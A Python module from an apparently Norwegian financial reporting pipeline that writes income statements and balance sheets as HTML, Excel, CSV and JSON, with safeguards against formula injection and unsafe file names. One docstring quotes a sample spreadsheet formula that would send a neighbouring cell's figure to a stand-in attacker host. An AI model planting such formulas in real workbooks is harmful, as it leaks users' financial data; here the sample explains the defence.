"""Reports as files: an HTML page with its charts and an Excel workbook for people, CSV and JSON for tools.

Finance users live in Excel, so the workbook holds numbers as numbers (not
text) with a thousands format, totals as formulas over the rows they add up,
account detail as outlined rows under its line, one sheet per table, and the
charts' figures on sheets of their own with native charts. The HTML page is for
reading and printing: one self-contained file, warnings in a box at the top,
each line's accounts folded under it. People read names (a company's, a
client's); CSV and JSON keep the keys, with the names beside them in JSON.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import unicodedata
from collections.abc import Sequence
from copy import copy
from dataclasses import dataclass, field
from decimal import Decimal
from html import escape
from pathlib import Path
from typing import TYPE_CHECKING

from osr_pipelines.reports.build import Report
from osr_pipelines.reports.chart import Series, bar_chart, monthly_result_svg
from osr_pipelines.reports.consolidation import (
    Consolidation,
    Groupings,
    consolidated_balance_sheet,
    consolidated_income_statement,
    mismatch_table,
)
from osr_pipelines.reports.language import MONTHS, text, words
from osr_pipelines.reports.periods import label
from osr_pipelines.reports.tables import ACCOUNT, HEADING, LINE, Cell, Row, Table, amount, structured
from osr_pipelines.reports.trial_balance import ZERO

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell as XlCell
    from openpyxl.styles.cell_style import StyleArray
    from openpyxl.worksheet.worksheet import Worksheet

STYLE = """
body { font-family: system-ui, sans-serif; margin: 2em; color: #222; }
h1 { margin-bottom: 0.2em; } .sub { color: #555; margin-top: 0; }
.warnings { border: 3px solid #b00020; background: #fdecea; color: #5f0010; padding: 0.6em 1.2em; margin: 1em 0; }
.warnings h2 { margin: 0.2em 0; font-size: 1.15em; } .warnings li { margin: 0.3em 0; }
.note { border-left: 4px solid #d9a400; background: #fff8e1; padding: 0.4em 0.8em; }
.grid { margin: 0.5em 0 2em; font-variant-numeric: tabular-nums; overflow-x: auto; }
.row { display: grid; grid-template-columns: var(--cols); border-bottom: 1px solid #e4e4e4; }
.row > span { padding: 3px 8px; }
.row.head { font-weight: 600; border-bottom: 2px solid #999; }
.amount { text-align: right; white-space: nowrap; }
.row.heading { font-weight: 700; margin-top: 0.6em; border-bottom: none; }
.row.line { font-weight: 600; }
.row.total { font-weight: 700; border-top: 1px solid #666; background: #f4f6f8; }
details > .row.account > span { color: #444; font-size: 0.92em; }
details > .row.account > span:first-child { padding-left: 1.6em; }
details > summary { list-style: none; cursor: pointer; }
details > summary::-webkit-details-marker { display: none; }
details > summary > span:first-child::before { content: "▸ "; color: #777; }
details[open] > summary > span:first-child::before { content: "▾ "; }
.empty { color: #666; font-style: italic; padding: 3px 8px; }
svg { max-width: 100%; height: auto; }
"""
#: every line's accounts unfold for printing; the page needs nothing else of scripts
PRINT_SCRIPT = ("addEventListener('beforeprint', () => document.querySelectorAll('details')"
                ".forEach(d => d.open = true));")


@dataclass(frozen=True)
class Document:
    title: str
    #: file name without extension
    stem: str
    currency: str
    #: (sheet name, table): the report itself, then the figures behind the charts
    sheets: list[tuple[str, Table]]
    #: (heading, inline SVG)
    charts: list[tuple[str, str]]
    #: how many of ``sheets`` are the report (the rest feed the charts)
    report_sheets: int = 1
    lang: str = "nb"
    #: what stops the figures from being used, shown first
    warnings: list[str] = field(default_factory=list)
    #: what a reader should know, but stops nothing (a month still being booked)
    notes: list[str] = field(default_factory=list)
    #: keys (a company's) to the names people read, for column headings and cells
    names: dict[str, str] = field(default_factory=dict)
    #: the machine's identity of the report: kind, company or client key, period
    meta: dict[str, str] = field(default_factory=dict)


#: how long the name in a report's file name may be; with the report's kind and month it stays far below 255
NAME_LIMIT = 80
_SPELLED = str.maketrans({"æ": "ae", "Æ": "Ae", "ø": "o", "Ø": "O"})  # NFKD leaves these as they are


def file_name(name: str) -> str:
    """A company's or client's name as it may appear in a file name: ASCII letters, digits, ``.``, ``_``, ``-``.

    Names come from ERPs and from people, and a file system takes neither
    every character nor every length: a 300-character client name made its
    report fail, and a right-to-left override or a zero-width space in a file
    name makes it read as something else. Accents are dropped (å→a, ø→o,
    æ→ae), blanks become ``_`` (so ``Acme Group`` and ``Acme-Group`` stay two
    files), anything else goes, and the result is cut to :data:`NAME_LIMIT`.
    A name that lost characters on the way (dropped, or cut) gets a short hash
    of the real name, so two names never share a file; one whose letters were
    only spelled out stays readable (``Ærlige Øl AS`` is ``Aerlige_Ol_AS``).
    Reports show the real name.
    """
    spelled = unicodedata.normalize("NFKD", name.translate(_SPELLED))
    # what a reader sees of the name, apart from the accents NFKD splits off
    visible = re.sub(r"\s+", "_", "".join(c for c in spelled if not unicodedata.combining(c))).strip("._-")
    text = re.sub(r"_{2,}", "_", re.sub(r"[^A-Za-z0-9._-]", "", visible.encode("ascii", "ignore").decode()))
    text = text.strip("._-")
    if text and text == visible and len(text) <= NAME_LIMIT:
        return text
    digest = hashlib.sha256(name.encode("utf-8", "surrogatepass")).hexdigest()[:8]
    kept = text[:NAME_LIMIT - len(digest) - 1].rstrip(".-")
    return f"{kept}-{digest}" if kept else digest


def company_document(report: Report, name: str = "", warnings: Sequence[str] = (), notes: Sequence[str] = (),
                     chart: bool | None = None) -> Document:
    """A company's report; ``name`` is what people read (the key where the registry has none). The monthly
    result chart goes with the income statement unless ``chart`` says otherwise."""
    lang = report.lang
    who = name or report.company
    years = sorted(report.monthly_result)
    sheets = [(text(report.kind, lang) if i == 0 else text("not mapped", lang), t) for i, t in enumerate(report.tables)]
    charts = []
    if report.kind == "income-statement" if chart is None else chart:
        figures = Table(text("monthly result", lang), (text("Month", lang), *(str(y) for y in years)),
                        [Row((month, *(report.monthly_result[y][m] or ZERO for y in years)))
                         for m, month in enumerate(MONTHS[lang])])
        sheets.append((text("monthly result", lang), figures))
        charts.append((text("monthly result", lang), monthly_result_svg(report.monthly_result, report.currency, lang)))
    return Document(f"{text(report.kind, lang)} {label(report.period)}: {who}",
                    f"{file_name(report.company)}-{report.kind}-{label(report.period)}", report.currency,
                    sheets, charts, report_sheets=len(report.tables), lang=lang, warnings=list(warnings),
                    notes=list(notes), names={report.company: who},
                    meta={"kind": report.kind, "company": report.company, "period": label(report.period),
                          "currency": report.currency, "group_by": report.group_by})


def client_document(group: Consolidation, kind: str, groupings: Groupings | None = None, *, lang: str = "nb",
                    names: dict[str, str] | None = None, warnings: Sequence[str] = (),
                    notes: Sequence[str] = (), signs: str = "statement") -> Document:
    """The consolidated income statement or balance sheet (in ``signs``), with the intercompany mismatches and two
    charts: revenue and cost per company, and the result per company beside the eliminations and the group."""
    names = names or {}
    render = consolidated_income_statement if kind == "income-statement" else consolidated_balance_sheet
    what = text(f"consolidated {kind}", lang)
    table = render(group, groupings, lang=lang, signs=signs)
    table = Table(f"{what} {label(group.period)} ({group.currency})", table.columns, table.rows)
    mismatches = mismatch_table(group)
    mismatches = Table(text("intercompany", lang), mismatches.columns,  # the kind (balance, result) in words
                       [Row(tuple(words(c, lang) if i == 2 and isinstance(c, str) else c
                                  for i, c in enumerate(r.cells)), r.strong, r.kind, r.parts)
                        for r in mismatches.rows])
    ytd = [group.parts[c].ytd for c in group.companies] + [group.column(lambda t: t.ytd, group.eliminated)]
    revenue = [-sum((v for a, v in part.items() if a.startswith("3")), ZERO) for part in ytd]
    cost = [-sum((v for a, v in part.items() if not a.startswith("3")), ZERO) for part in ytd]
    revenue.append(sum(revenue, ZERO))
    cost.append(sum(cost, ZERO))
    result = [r + k for r, k in zip(revenue, cost, strict=True)]
    shown = [names.get(c, c) for c in group.companies]
    columns = [*shown, text("Eliminations", lang), text("Consolidated", lang)]
    figures = Table(text("per company", lang), (text("Company", lang), text("Revenue", lang), text("Cost", lang),
                                                text("Result", lang)),
                    [Row(cells) for cells in zip(columns, revenue, cost, result, strict=True)])
    companies = len(group.companies)
    return Document(
        f"{what} {label(group.period)}: {group.client}",
        f"{file_name(group.client)}-consolidated-{kind}-{label(group.period)}",
        group.currency,
        [(what[:31], table), (text("intercompany", lang)[:31], mismatches), (text("per company", lang)[:31], figures)],
        [(text("revenue and cost chart", lang),
          bar_chart("revenue-and-cost", text("revenue and cost chart", lang), shown,
                    [Series("revenue", text("Revenue", lang), revenue[:companies]),
                     Series("cost", text("Cost", lang), cost[:companies])], group.currency, lang)),
         (text("result chart", lang),
          bar_chart("consolidated-result", text("result chart", lang), columns,
                    [Series("result", text("Result", lang), result)], group.currency, lang))],
        report_sheets=2, lang=lang, warnings=list(warnings), notes=list(notes), names=names,
        meta={"kind": f"consolidated-{kind}", "client": group.client, "period": label(group.period),
              "currency": group.currency})


def _shown(value: str, doc: Document) -> str:
    """A heading as a person reads it: a company's name for its key, known headings translated."""
    if ytd := re.fullmatch(r"YTD (\d{4}-\d{2})", value):
        return text("ytd", doc.lang, period=ytd.group(1))
    return doc.names.get(value) or words(value, doc.lang)


def _numeric_columns(table: Table) -> list[bool]:
    return [any(isinstance(r.cells[i], Decimal) for r in table.rows if i < len(r.cells))
            for i in range(len(table.columns))]


def _html_cells(row: Row, numeric: list[bool], doc: Document) -> str:
    out = []
    for value, is_number in zip(row.cells, numeric, strict=False):
        if isinstance(value, Decimal):
            out.append(f'<span class="amount" role="cell" data-value="{value + ZERO}">{amount(value, doc.lang)}</span>')
        else:
            out.append(f'<span class="{"amount" if is_number else "text"}" role="cell">'
                       f"{escape(doc.names.get(value, value))}</span>")
    return "".join(out)


def _html_table(table: Table, doc: Document) -> str:
    table = structured(table)
    numeric = _numeric_columns(table)
    # fixed widths, each as wide as the column's longest amount or code: every row is a grid of its own, and only
    # fixed tracks line the rows up
    longest = [max([len(amount(r.cells[i], doc.lang)) if isinstance(r.cells[i], Decimal) else len(str(r.cells[i]))
                    for r in table.rows if i < len(r.cells)] + [min(len(_shown(table.columns[i], doc)), 14)])
               for i in range(len(table.columns))]
    # in em, not ch: a bold row's digits are wider, and its tracks would not line up with the plain rows'
    chars = [max(n, 8) + 3 if numeric[i] else min(max(n, 4), 14) + 4 for i, n in enumerate(longest)]
    widths = " ".join("minmax(12em, 1fr)" if i == 1 and not numeric[i] else f"{n * 0.62:.1f}em"
                      for i, n in enumerate(chars))
    head = "".join(f'<span class="{"amount" if n else "text"}" role="columnheader">{escape(_shown(c, doc))}</span>'
                   for c, n in zip(table.columns, numeric, strict=True))
    body: list[str] = []
    rows = table.rows
    i = 0
    while i < len(rows):
        row = rows[i]
        kind = row.kind or ("total" if row.strong else "plain")
        details = []
        while i + 1 + len(details) < len(rows) and rows[i + 1 + len(details)].kind == ACCOUNT and row.kind != ACCOUNT:
            details.append(rows[i + 1 + len(details)])
        cells = _html_cells(row, numeric, doc)
        if details:
            inner = "".join(f'<div class="row account" role="row">{_html_cells(d, numeric, doc)}</div>'
                            for d in details)
            body.append(f'<details><summary class="row {kind}" role="row">{cells}</summary>{inner}</details>')
        else:
            body.append(f'<div class="row {kind}" role="row">{cells}</div>')
        i += 1 + len(details)
    if not rows:
        body.append(f'<div class="empty" role="row">{escape(text("none", doc.lang))}</div>')
    return (f'<section class="report-table"><h2>{escape(table.title)}</h2>'
            f'<div class="grid" role="table" aria-label="{escape(table.title)}" style="--cols: {widths}">'
            f'<div class="row head" role="row">{head}</div>{"".join(body)}</div></section>')


def html(doc: Document) -> str:
    warnings = ""
    if doc.warnings:
        warnings = (f'<div class="warnings" role="alert"><h2>{escape(text("warnings", doc.lang))}</h2><ul>'
                    + "".join(f"<li>{escape(w)}</li>" for w in doc.warnings) + "</ul></div>")
    notes = "".join(f'<p class="note">{escape(n)}</p>' for n in doc.notes)
    return (f'<!doctype html><html lang="{"en" if doc.lang == "en" else "nb"}"><head><meta charset="utf-8">'
            f'<meta name="viewport" content="width=device-width"><title>{escape(doc.title)}</title>'
            f"<style>{STYLE}</style><script>{PRINT_SCRIPT}</script></head><body><h1>{escape(doc.title)}</h1>"
            f'<p class="sub">{escape(text("amounts in", doc.lang, currency=doc.currency))}</p>{warnings}{notes}'
            + "".join(_html_table(t, doc) for _, t in doc.sheets[:doc.report_sheets])
            + "".join(f'<section class="chart"><h2>{escape(heading)}</h2>{svg}</section>'
                      for heading, svg in doc.charts)
            + "</body></html>")


#: what makes a spreadsheet take text for a formula (OWASP's CSV injection list)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: the first row of a table's header in every sheet: the document's title and the table's come first
HEADER_ROW = 3


def _append(sheet: Worksheet, values: Sequence[Cell | int | None]) -> tuple[XlCell, ...]:
    """Add a row; text stays text, whatever it starts with.

    Account names, company names and keys come from the ERP or the registry:
    openpyxl stores a text starting with ``=`` as a live formula, so
    ``=HYPERLINK("http://evil.example/?"&C3,"Klikk")`` as an account name would
    send a neighbouring figure away when clicked. Every text cell is stored as a
    string, and one that starts like a formula also gets Excel's quote prefix,
    so that editing the cell keeps it text. Amounts stay numbers; formulas are
    only the totals this module writes itself (see :func:`_formula`). Returns the row's cells.
    """
    sheet.append(list(values))
    row = sheet[sheet.max_row]
    for cell in row:
        if isinstance(cell.value, str):
            cell.data_type = "s"
            if cell.value.startswith(FORMULA_START):
                cell.quotePrefix = True
    return row


def _formula(column: str, parts: tuple[tuple[int, int], ...], first_row: int) -> str:
    """A total as Excel adds it up: ``SUM`` over a block of rows, or the rows added and subtracted one by one."""
    rows = [(first_row + i, f) for i, f in parts]
    numbers = [r for r, _ in rows]
    if all(f == 1 for _, f in rows) and numbers == list(range(numbers[0], numbers[0] + len(numbers))):
        return f"=SUM({column}{numbers[0]}:{column}{numbers[-1]})"
    return "=" + "".join(f"{'+' if f > 0 else '-'}{column}{r}" for r, f in rows).lstrip("+")


def _account_number(value: Cell) -> Cell | int:
    """An account number that is a number goes in as one (``0100`` keeps its leading zero, as text)."""
    if isinstance(value, str) and value.isdigit() and not value.startswith("0") and len(value) <= 15:
        return int(value)
    return value


def _sheet(sheet: Worksheet, doc: Document, table: Table, bold: object, title_font: object) -> None:
    from openpyxl.utils import get_column_letter

    table = structured(table)
    _append(sheet, [doc.title])
    sheet["A1"].font = title_font
    _append(sheet, [table.title])
    _append(sheet, [_shown(c, doc) for c in table.columns])
    for cell in sheet[HEADER_ROW]:
        cell.font = bold
    first_data = HEADER_ROW + 1
    numeric = _numeric_columns(table)
    widths = [len(_shown(c, doc)) for c in table.columns]
    under_line = False
    styles: dict[tuple[int, ...], StyleArray | None] = {}
    for row in table.rows:
        values: list[Cell | int | None] = []
        for index, value in enumerate(row.cells):
            if isinstance(value, str):
                value = doc.names.get(value, value)
            if index == 0 and row.kind == ACCOUNT:
                values.append(_account_number(value))
            elif value == "" and (row.kind == HEADING or numeric[index]):
                values.append(None)
            else:
                values.append(value)
            shown = amount(value, doc.lang) if isinstance(value, Decimal) else str(value)
            widths[index] = max(widths[index], len(shown))
        cells = _append(sheet, values)
        at = cells[0].row
        for index, cell in enumerate(cells):
            formatted = isinstance(cell.value, Decimal | float) or bool(numeric[index] and row.parts)
            if row.parts and index < len(row.cells) and isinstance(row.cells[index], Decimal):
                cell.value = _formula(get_column_letter(index + 1), row.parts, first_data)
            # openpyxl looks a cell's font up among the workbook's by hashing it, each time it is set: a cell
            # styled as one before it takes that one's style (the same entries, the same styles.xml)
            key = (formatted, row.strong, *(cell._style or ()))
            if key in styles:
                cell._style = copy(styles[key])
                continue
            if formatted:
                cell.number_format = "#,##0.00"
            if row.strong:
                cell.font = bold
            styles[key] = copy(cell._style)
        if row.kind == ACCOUNT and under_line:  # a trial balance's accounts are under no line
            sheet.row_dimensions[at].outline_level = 1
        under_line = row.kind in (LINE, ACCOUNT) and (under_line or row.kind == LINE)
    if not table.rows:
        _append(sheet, [text("none", doc.lang)])
    for index, width in enumerate(widths):
        sheet.column_dimensions[get_column_letter(index + 1)].width = min(max(width + 3, 8), 60)
    last = get_column_letter(len(table.columns))
    sheet.freeze_panes = f"A{first_data}" if len(table.columns) < 3 else f"C{first_data}"
    sheet.auto_filter.ref = f"A{HEADER_ROW}:{last}{max(sheet.max_row, first_data)}"
    sheet.sheet_properties.outlinePr.summaryBelow = False


def _chart(sheet: Worksheet, title: str, rows: int, series: int) -> None:
    """A native column chart of a figures sheet: categories in column A, one series per further column."""
    from openpyxl.chart import BarChart, Reference

    chart = BarChart()
    chart.type, chart.title, chart.height, chart.width = "col", title, 8, 18
    chart.y_axis.delete = chart.x_axis.delete = False
    data = Reference(sheet, min_col=2, max_col=1 + series, min_row=HEADER_ROW, max_row=HEADER_ROW + rows)
    chart.add_data(data, titles_from_data=True)
    chart.set_categories(Reference(sheet, min_col=1, min_row=HEADER_ROW + 1, max_row=HEADER_ROW + rows))
    sheet.add_chart(chart, f"{chr(ord('A') + series + 2)}{HEADER_ROW}")


def xlsx(doc: Document, path: Path) -> None:
    # imported here: every run's process loads the code location, and only report runs write workbooks
    from openpyxl import Workbook
    from openpyxl.styles import Font

    book = Workbook()
    book.properties.title = doc.title
    book.properties.subject = ", ".join(f"{k}={v}" for k, v in doc.meta.items())
    bold, title_font = Font(bold=True), Font(bold=True, size=13)
    for index, (name, table) in enumerate(doc.sheets):
        sheet = book.active if index == 0 else book.create_sheet()
        sheet.title = name
        _sheet(sheet, doc, table, bold, title_font)
        if index >= doc.report_sheets and table.rows:
            _chart(sheet, table.title, len(table.rows), len(table.columns) - 1)
    if doc.warnings:
        sheet = book.create_sheet(text("warnings sheet", doc.lang), 0)
        _append(sheet, [text("warnings", doc.lang)])
        sheet["A1"].font = title_font
        for warning in doc.warnings:
            _append(sheet, [warning])
        sheet.column_dimensions["A"].width = 120
        book.active = 0
    book.save(path)


def _machine(value: Cell) -> str:
    """A CSV cell: amounts with a decimal point and no grouping; text that would start a formula quoted."""
    if isinstance(value, Decimal):
        return str(value + ZERO)
    return f"'{value}" if value.startswith(FORMULA_START) else value


def csv_text(doc: Document) -> str:
    """The report's table as CSV: a ``row`` column (heading, line, account, total) and then its own columns."""
    table = structured(doc.sheets[0][1])
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["row", *table.columns])
    for row in table.rows:
        writer.writerow([row.kind or ("total" if row.strong else ""), *(_machine(c) for c in row.cells)])
    return out.getvalue()


def json_text(doc: Document) -> str:
    """The report's tables, warnings and notes as JSON; amounts are numbers, keys are keys, names beside them."""

    def cell(value: Cell) -> object:
        return float(value + ZERO) if isinstance(value, Decimal) else value  # never a negative zero

    return json.dumps({
        **doc.meta, "title": doc.title, "lang": doc.lang, "names": doc.names, "warnings": doc.warnings,
        "notes": doc.notes,
        "tables": [{"title": t.title, "columns": list(t.columns),
                    "rows": [{"row": r.kind or ("total" if r.strong else ""), "cells": [cell(c) for c in r.cells]}
                             for r in structured(t).rows]} for _, t in doc.sheets[:doc.report_sheets]],
    }, ensure_ascii=False, indent=1)


FORMATS = {"html": "HTML", "xlsx": "Excel", "csv": "CSV", "json": "JSON"}


def write(doc: Document, folder: Path, formats: Sequence[str] = ("html", "xlsx")) -> list[Path]:
    """Write ``<stem>.<format>`` into ``folder`` for each of ``formats``; return the paths in that order."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for fmt in formats:
        path = folder / f"{doc.stem}.{fmt}"  # keys hold dots: no with_suffix
        if fmt == "xlsx":
            xlsx(doc, path)
        else:
            path.write_text({"html": html, "csv": csv_text, "json": json_text}[fmt](doc), encoding="utf-8")
        paths.append(path)
    return paths
